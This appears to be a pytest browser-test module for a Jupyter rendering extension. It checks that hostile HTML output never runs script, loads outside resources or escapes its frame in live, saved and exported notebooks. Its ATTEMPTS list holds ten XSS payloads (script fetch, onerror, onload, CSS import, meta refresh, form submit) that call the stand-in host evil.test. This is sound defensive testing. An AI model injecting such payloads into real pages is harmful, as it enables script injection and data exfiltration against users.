"""Whatever a server sends: nothing of it runs, loads, leads away or leaves its box; live, saved and exported."""

from __future__ import annotations

import itertools
import pathlib
import re
import time
from typing import TYPE_CHECKING, Any

import nbformat
import pytest
from nbformat.sign import NotebookNotary

from cocalc_magic import render
from cocalc_magic.errors import CoCalcError
from cocalc_magic.render.embed import frame_document
from tests.browser.conftest import PATIENCE, Page, chromium_only, running_context
from tests.browser.exhibits import TEXTS, UNSAFE
from tests.render.hostile import SMALL
from tests.render.views import all_blocks, texts

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.browser.conftest import Lab

LOAD = f"%load_ext cocalc_magic\nimport sys\nsys.path.insert(0, {str(pathlib.Path(__file__).parents[2])!r})"
SAMPLE = 10  # of so many frames one is loaded, where they are the same as in the live page
SIZE = 20  # values at once in a page
BOX = f"""import ipywidgets as W
from tests.browser import exhibits
from IPython.display import HTML, display
made, box = exhibits.batches({SIZE}), W.VBox()
box.add_class("hostile-box")
display(HTML(exhibits.UNSAFE), box)"""
NEXT = """shown = next(made, None)
box.children = () if shown is None else (shown,)
count = 0 if shown is None else exhibits.html_count(shown)"""
RUN = """async (code) => {
    const kernel = window.jupyterapp.shell.currentWidget.sessionContext.session.kernel;
    const { content } = await kernel.requestExecute({ code, user_expressions: { count: "count" } }).done;
    if (content.status !== "ok") throw new Error(content.traceback.join("\\n"));
    return Number(content.user_expressions.count.data["text/plain"]);
}"""
# Tabs that are closed are opened, and frames loaded that wait to be scrolled to.
OPEN = """async (step) => {
    document.head.insertAdjacentHTML("beforeend", "<style>.hostile-box .lm-mod-hidden { display: block !important }</style>");
    const frames = [...document.querySelectorAll("iframe[srcdoc]")].filter((_, number) => number % step === 0);
    for (const frame of frames) frame.loading = "eager";
    while (frames.some((frame) => !loaded.has(frame))) await new Promise(requestAnimationFrame);
    return frames.length;
}"""
FIRST = """
    window.alert = () => { window.ran = 1; };
    window.loaded = new WeakSet();
    document.addEventListener("load", ({ target }) => loaded.add(target), true);
"""
# What is in a page against the rules, in words. `ours` are the elements that hold HTML made by us.
OFFENCES = """(ours) => {
    const tags = /^(div|span|b|pre|table|tbody|tr|td|details|summary|a|img|iframe)$/;
    const names = /^(style|class|title|href|target|rel|src|alt|open|scope|role|aria-[a-z]+|sandbox|srcdoc|loading|referrerpolicy|data-ccm|dir|tabindex|data-lm-suppress-shortcuts)$/;
    const bad = [];
    const note = (what, element) => bad.length < 6 && bad.push(`${what}: ${element.outerHTML.slice(0, 200)}`);
    function inspect(element) {
        if (!tags.test(element.localName)) note("element", element);
        for (const { name, value } of element.attributes) {
            if (!names.test(name)) note(`attribute ${name}`, element);
            if (name === "class" && !/^(mathjax_ignore|tex2jax_ignore|cocalc-magic|ccm-[a-z-]+| )+$/.test(value)) note("class", element);
            if (name === "style" && /position|z-index|url|margin[^:;]*: *-|transform/i.test(value)) note("style", element);
            if (name === "href" && !/^https?:[/][/]/.test(value)) note("link", element);
            if (name === "src" && !/^data:image[/]/.test(value)) note("source", element);
            if (name === "srcdoc" && element.getAttribute("sandbox") !== "") note("open frame", element);
        }
    }
    function measure(element, room) {
        const { left, right, width, height } = element.getBoundingClientRect();
        if (width && (left < room.left - 1 || right > room.right + 1)) note(`by ${left - room.left}, ${right - room.right}`, element);
        if (height > 3000) note(`${height} pixels high`, element);
    }
    // Parts of a line stand in the order in which they were written.
    function read(line) {
        const parts = [...line.childNodes];
        if (parts.length < 2 || parts.some((part) => part.nodeType === 1 && !/^(span|b|a)$/.test(part.localName))) return;
        const range = document.createRange();
        let last = null;
        for (const part of parts) {
            range.selectNodeContents(part);
            const spots = [...range.getClientRects()].filter(({ width }) => width > 0);
            if (last && spots.length && Math.abs(spots[0].top - last.top) < 4 && spots[0].left < last.right - 2) note("turned", line);
            if (spots.length) last = spots.length === 1 ? spots[0] : null;
        }
    }
    for (const content of document.querySelectorAll(ours)) {
        const room = content.getBoundingClientRect();
        const scrolled = new Set(content.querySelectorAll('[style*="overflow-x"] *'));
        for (const element of content.querySelectorAll("*:not(button.ccm-copy)")) inspect(element);
        for (const element of content.querySelectorAll("div, pre, table, details, img, iframe, td"))
            if (!scrolled.has(element)) measure(element, room);
        for (const line of content.querySelectorAll("div, summary")) read(line);
    }
    for (const element of document.querySelectorAll("a[href]"))
        if (/^[^a-z]*(javascript|vbscript):/i.test(element.href)) note("link", element);
    if (document.documentElement.scrollWidth > innerWidth) note("wider than the page", document.body);
    return bad;
}"""
RAN = "() => window.ran"
# That of a progress line becomes a clock and a button.
HTML = ".hostile-box :is(.ccm-html, .widget-html-content:not(:has([data-ccm-progress])))"
STRAY = (
    "h1, h2, ol, ul, li, p > img, p > a, blockquote, script:not([type]), svg"  # what no text of ours becomes
)

rest = pytest.mark.long
thirds = pytest.mark.parametrize("third", [0, pytest.param(1, marks=rest), pytest.param(2, marks=rest)])
"""What was saved is large: of its three parts two are for `-m long`."""


@pytest.fixture
def page(browser: Any, lab: Lab) -> Iterator[Page]:
    """A page of its own: what it listens to is no other test's."""
    with running_context(browser) as context:
        yield Page(context.new_page(), lab)
    lab.end_kernels()


@pytest.fixture
def asked(page: Page) -> list[str]:
    """What a page asks for outside of JupyterLab, and what it opens."""
    seen: list[str] = []
    page.page.add_init_script(FIRST)

    def shown(dialog: Any) -> None:
        if dialog.type != "beforeunload":  # which is JupyterLab's own
            seen.append("dialog")
        dialog.accept()

    page.page.on("dialog", shown)
    page.page.on("popup", lambda popup: seen.append(f"popup {popup.url}"))

    def stopped(route: Any) -> None:
        seen.append(route.request.url)
        route.abort()

    # Not the event of a request, which comes too for what the policy of a frame has stopped.
    outside = re.compile(rf"^(?!{re.escape(page.lab.url)}|data:|blob:|file:|about:)")
    page.page.route(outside, stopped)
    return seen


def offences(page: Page, ours: str, step: int = 1) -> list[str]:
    """What is wrong in a page, all of whose tabs are open, and every so many of its frames loaded."""
    page.page.evaluate(OPEN, step)
    found: list[str] = page.page.evaluate(OFFENCES, ours)
    return found


def seen_to_run(page: Page) -> None:
    """Waits until what is unsafe has run, and forgets it."""
    page.page.wait_for_function(RAN, timeout=180_000)
    page.page.evaluate("() => { delete window.ran; }")


def test_live(page: Page, lab: Lab, asked: list[str]) -> None:
    page.open(lab.notebook("hostile.ipynb", LOAD, BOX))
    page.run_all()
    page.page.wait_for_selector(".hostile-box", state="attached")
    seen_to_run(page)

    batches = 0
    while count := page.page.evaluate(RUN, NEXT):
        batches += 1
        page.page.wait_for_function(
            "(count) => document.querySelectorAll('.hostile-box :is(.ccm-html, .widget-html-content)').length >= count",
            arg=count,
        )
        assert offences(page, HTML) == []
        assert page.page.evaluate(RAN) is None
        assert asked == []
    assert batches > len(SMALL) / SIZE


def saved(lab: Lab, name: str, third: int, *, trusted: bool) -> Path:
    """A notebook with all kinds and all values in its outputs, as they are when it is saved.

    It is the HTML of the live page again: each value in a third of the kinds, each kind with a third of the values.
    """
    name = f"{name}-{third}.ipynb"
    made, outputs = enumerate(SMALL.values()), []
    while values := list(itertools.islice(made, SIZE)):
        blocks = [
            block
            for number, value in values
            for kind, shown in enumerate(all_blocks(value).values())
            if (number + kind) % 3 == third
            for block in shown
        ]
        html = f'<div data-ccm="0123456789abcdef"><div>{render.format_html(blocks)}</div></div>'
        data = {"text/html": html, "text/plain": render.format_text(blocks)}
        outputs.append(nbformat.v4.new_output("display_data", data))
    plain = {"text/plain": render.format_text([block for value in TEXTS for block in texts(value)])}
    said = {
        "ename": "CoCalcError",
        "evalue": "",
        "traceback": CoCalcError("\n\n".join(TEXTS))._render_traceback_(),
    }
    outputs += [nbformat.v4.new_output("display_data", plain), nbformat.v4.new_output("error", **said)]
    cells = [
        nbformat.v4.new_code_cell(
            "1", outputs=[nbformat.v4.new_output("display_data", {"text/html": UNSAFE})]
        ),
        nbformat.v4.new_code_cell("2", outputs=outputs),
        nbformat.v4.new_markdown_cell("the end of it"),
    ]
    kernel = {"kernelspec": {"display_name": "Python 3 (ipykernel)", "language": "python", "name": "python3"}}
    notebook = nbformat.v4.new_notebook(cells=cells, metadata=kernel)
    if trusted:
        NotebookNotary(data_dir=str(lab.settings.with_name("data"))).sign(notebook)
    nbformat.write(notebook, lab.root / name)
    return lab.root / name


@thirds
def test_saved(page: Page, lab: Lab, asked: list[str], third: int) -> None:
    ours = ".jp-RenderedHTMLCommon [class*=mathjax_ignore]"
    page.open(saved(lab, "trusted", third, trusted=True))
    seen_to_run(page)
    assert page.page.locator(ours).count() >= len(SMALL) / SIZE
    assert offences(page, ours, SAMPLE) == []

    page.open(saved(lab, "untrusted", third, trusted=False))
    assert page.page.locator(ours).count() >= len(SMALL) / SIZE
    assert page.page.locator("iframe[srcdoc]").count() == 0
    assert offences(page, ours, SAMPLE) == []
    assert page.page.evaluate(RAN) is None
    assert asked == []


@thirds
@pytest.mark.parametrize("form", ["html", "markdown"])
def test_exported(page: Page, lab: Lab, asked: list[str], form: str, third: int) -> None:
    """Markdown is shown by a renderer that lets all HTML pass, so that what stands there is safe by itself."""
    import mistune
    from nbconvert import HTMLExporter, MarkdownExporter

    notebook = saved(lab, f"to-{form}", third, trusted=False)
    if form == "html":
        text, _ = HTMLExporter().from_filename(str(notebook))
    else:
        exported, _ = MarkdownExporter().from_filename(str(notebook))
        body = mistune.create_markdown(escape=False, plugins=["table", "strikethrough", "url"])(exported)
        text = f'<!DOCTYPE html><meta charset="utf-8"><style>pre {{ overflow: auto }}</style><body>{body}'
    target = notebook.with_suffix(".html")
    target.write_text(text, encoding="utf-8", errors="replace")
    page.page.goto(target.as_uri(), wait_until="commit")
    page.page.get_by_text("the end of it").wait_for(state="attached", timeout=180_000)
    seen_to_run(page)

    ours = "[class*=mathjax_ignore]"
    assert page.page.locator(ours).count() >= len(SMALL) / SIZE
    assert offences(page, ours, SAMPLE) == []
    if form == "markdown":
        assert (
            page.page.locator(STRAY).evaluate_all("(all) => all.map((one) => one.outerHTML.slice(0, 200))")
            == []
        )
    assert page.page.evaluate(RAN) is None
    assert [
        address for address in asked if "evil" in address or address.startswith(("dialog", "popup"))
    ] == []


WALLS = """([head, attempts]) => {
    document.body.replaceChildren(...attempts.flatMap((attempt) => ["walled", "bare"].map((name) => {
        const frame = document.createElement("iframe");
        if (name === "walled") frame.setAttribute("sandbox", "");
        frame.srcdoc = (name === "walled" ? head : "") + attempt.replaceAll("evil", name);
        return frame;
    })));
}"""
ATTEMPTS = (
    "<script>fetch('http://evil.test/script')</script>",
    "<img src=x onerror=\"fetch('http://evil.test/handler')\">",
    "<img src=http://evil.test/picture><link rel=stylesheet href=http://evil.test/link>",
    "<style>@import 'http://evil.test/import'; body { background: url(http://evil.test/style) }</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/refresh'>",
    "<iframe src=http://evil.test/frame></iframe>",
    "<form action=http://evil.test/form></form><script>document.forms[0].submit()</script>",
    "<script>fetch('http://evil.test/fetch', { mode: 'no-cors', method: 'POST', body: 'x' })</script>",
    "<svg onload=\"fetch('http://evil.test/onload')\"><image href=http://evil.test/svg /></svg>",
    "<a href=http://evil.test/link></a><script>document.querySelector('a').click()</script>",
)


def test_the_walls_of_a_frame_hold_without_the_filter_before_them(
    page: Page, lab: Lab, asked: list[str]
) -> None:
    """Each attempt twice: with the frame's attribute and policy, and without, where it succeeds."""
    chromium_only("requests without those that a policy stops")
    page.page.goto(f"{lab.url}/login")
    page.page.evaluate(WALLS, [frame_document(""), list(ATTEMPTS)])

    tried = {name for attempt in ATTEMPTS for name in re.findall(r"evil[.]test/(\w+)", attempt)}
    deadline = time.monotonic() + PATIENCE
    while len({one for one in asked if "bare" in one}) < len(tried) and time.monotonic() < deadline:
        page.page.wait_for_timeout(100)
    assert {address.rpartition("/")[2].rstrip("?") for address in asked if "bare" in address} == tried
    assert [address for address in asked if "walled" in address] == []
